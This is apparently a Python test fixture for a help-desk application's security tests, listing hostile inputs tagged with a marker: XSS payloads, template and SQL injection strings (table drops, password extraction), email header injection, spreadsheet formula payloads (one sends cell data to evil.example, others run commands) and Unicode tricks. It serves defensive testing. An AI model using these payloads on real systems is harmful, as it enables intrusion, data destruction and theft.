"""A corpus of hostile input for the injection tests (opsdesk/core/tests/security/).

Every XSS payload carries MARKER, so a test can tell an element or attribute that came from the
payload from the page's own: after rendering, MARKER may appear only as text or inside a
harmless attribute value, never in a tag or attribute name, an event handler, a javascript: URL
or a script. Template payloads put MARKER right after the expression, so a page that evaluated
them would show "49" + MARKER. Formula payloads are what a spreadsheet would run.
"""

MARKER = "opsdeskxss"

XSS = [
    f"<script>alert('{MARKER}')</script>",
    f"<SCRIPT SRC=//evil.example/{MARKER}.js></SCRIPT>",
    f"<img src=x onerror=alert('{MARKER}')>",
    f"<svg/onload=alert('{MARKER}')>",
    f"<svg><script>alert('{MARKER}')</script></svg>",
    f"<body onload=alert('{MARKER}')>",
    f"<iframe src=\"javascript:alert('{MARKER}')\"></iframe>",
    f"<a href=\"javascript:alert('{MARKER}')\">click {MARKER}</a>",
    f"[click](javascript:alert('{MARKER}'))",
    f"\"><img src=x onerror=alert('{MARKER}')>",
    f"' onmouseover='alert(\"{MARKER}\")' x='",
    f"</textarea><script>alert('{MARKER}')</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
    f"<details open ontoggle=alert('{MARKER}')>",
    f"<{MARKER} onclick=alert(1)>tag</{MARKER}>",
    f"javascript:alert('{MARKER}')",
    f"<style>@import 'http://evil.example/{MARKER}.css';</style>",
    f"<div hx-get=\"/logout/\" hx-trigger=\"load\">{MARKER}</div>",
]

TEMPLATE = [
    f"{{{{7*7}}}}{MARKER}",
    f"{{% now 'Y' %}}{MARKER}",
    f"${{7*7}}{MARKER}",
    f"{{{{ request.user.password }}}}{MARKER}",
]

SQL = [
    "' OR 1=1--",
    "' OR '1'='1' /*",
    "1; DROP TABLE incidents_incident;--",
    "'); DROP TABLE accounts_user;--",
    "' UNION SELECT username, password FROM accounts_user--",
    "\\'; SELECT pg_sleep(0);--",
    "%' AND 1=0 UNION SELECT NULL--",
]

HEADER = [
    "Printer broken\r\nBcc: victim@evil.example",
    "VPN\r\nSet-Cookie: sessionid=stolen",
    "Mail\nContent-Type: text/html\n\n<b>injected</b>",
    "Subject\r\n\r\nbody injected",
    "line%0d%0aBcc:%20victim@evil.example",
]

FORMULA = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
]

UNICODE = [
    "\u202eexe.txt",                       # right-to-left override
    "ｓｃｒｉｐｔ＜script＞alert(1)＜/script＞",   # full-width look-alikes
    "\u200bzero\u200bwidth\u200b",
    "\ufeffBOM at the start",
    "e\u0301\u0301\u0301 combining marks",
    "打印机坏了 🖨️ 💥",
    "\x00nul byte",
]

# (kind, payload) for parametrising; ids stay readable.
ALL = ([("xss", p) for p in XSS] + [("template", p) for p in TEMPLATE]
       + [("sql", p) for p in SQL] + [("header", p) for p in HEADER]
       + [("formula", p) for p in FORMULA] + [("unicode", p) for p in UNICODE])


def one_line(payload: str, limit: int = 200) -> str:
    """The payload as a one-line field would take it (a short description, a subject)."""
    return payload[:limit]
